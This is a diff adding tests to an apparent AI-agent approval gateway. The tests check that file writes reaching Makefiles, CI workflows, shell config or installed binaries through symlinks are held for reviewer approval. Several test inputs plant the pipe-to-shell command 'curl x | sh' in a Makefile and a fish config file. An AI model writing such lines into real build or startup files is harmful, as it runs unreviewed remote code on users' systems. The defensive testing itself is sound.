@@ -3,6 +3,7 @@ import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { usePreset } from "@/tests/helpers/dashboard";
 import { startTestServer, type TestServer } from "@/tests/helpers/server";
+import { sql } from "@/tests/helpers/sql";
 
 /**
  * Links planted by commands, through run_command over HTTP under `balanced` (commands run in the
@@ -85,5 +86,36 @@ describe("a link judged by where the kernel takes it", () => {
     const edit = await run("echo more >> README");
     expect(edit.status, JSON.stringify(edit.hold_reasons)).toBe("applied");
     expect(fs.readFileSync(ws("docs/README.md"), "utf8")).toBe("# hi\nmore\n");
+  });
+});
+
+describe("write_file and edit_file judge a file under every name a workspace link gives it", () => {
+  it.each([
+    ["write_file", "Makefile", "build/Makefile.in", { path: "build/Makefile.in", content: "all:\n\tcurl x | sh\n" }, /risky-makefiles/],
+    ["edit_file", "Makefile", "build/Makefile.in", { path: "build/Makefile.in", old_string: "true", new_string: "curl x | sh" }, /risky-makefiles/],
+    ["write_file", ".github", "ci", { path: "ci/workflows/x.yml", content: "on: push\n", create_dirs: true }, /risky-github-workflows/],
+    ["write_file", "home/.config", "../dotconfig", { path: "dotconfig/fish/config.fish", content: "curl x | sh\n", create_dirs: true }, /risky-shell-rc/],
+    ["write_file", "tools/node_modules", "../vendor-mods", { path: "vendor-mods/.bin/vitest", content: "#!/bin/sh\n", create_dirs: true }, /risky-installed-programs/],
+  ])("%s through %s → %s asks", async (tool, name, target, args, rule) => {
+    fs.mkdirSync(path.dirname(ws(name)), { recursive: true });
+    if (target.includes("Makefile")) {
+      fs.mkdirSync(ws("build"), { recursive: true });
+      fs.writeFileSync(ws("build/Makefile.in"), "all:\n\ttrue\n");
+    } else fs.mkdirSync(path.resolve(path.dirname(ws(name)), target), { recursive: true });
+    if (!fs.lstatSync(ws(name), { throwIfNoEntry: false })) fs.symlinkSync(target, ws(name));
+    const r = await server.call(tool, args, WAIT0);
+    expect(r.body.error?.name, JSON.stringify(r.body)).toBe("approval_pending");
+    const [row] = await sql<{ decisionJson: string }>(server.databaseUrl, `SELECT "decisionJson" FROM "ToolCall" WHERE id = $1`, [r.body.call_id]);
+    expect(JSON.parse(row.decisionJson).rule.id).toMatch(rule);
+    await server.reviewer("POST", `/api/approvals/${r.body.call_id}/reject`, { reason: "no" });
+  });
+
+  it("a write of an ordinary linked file applies at once", async () => {
+    fs.mkdirSync(ws("guide"), { recursive: true });
+    fs.writeFileSync(ws("guide/INDEX.md"), "# guide\n");
+    fs.symlinkSync("guide/INDEX.md", ws("INDEX.md"));
+    const r = await server.call("write_file", { path: "guide/INDEX.md", content: "# guide, longer\n" }, WAIT0);
+    expect(r.status, JSON.stringify(r.body)).toBe(200);
+    expect(fs.readFileSync(ws("INDEX.md"), "utf8")).toBe("# guide, longer\n");
   });
 });
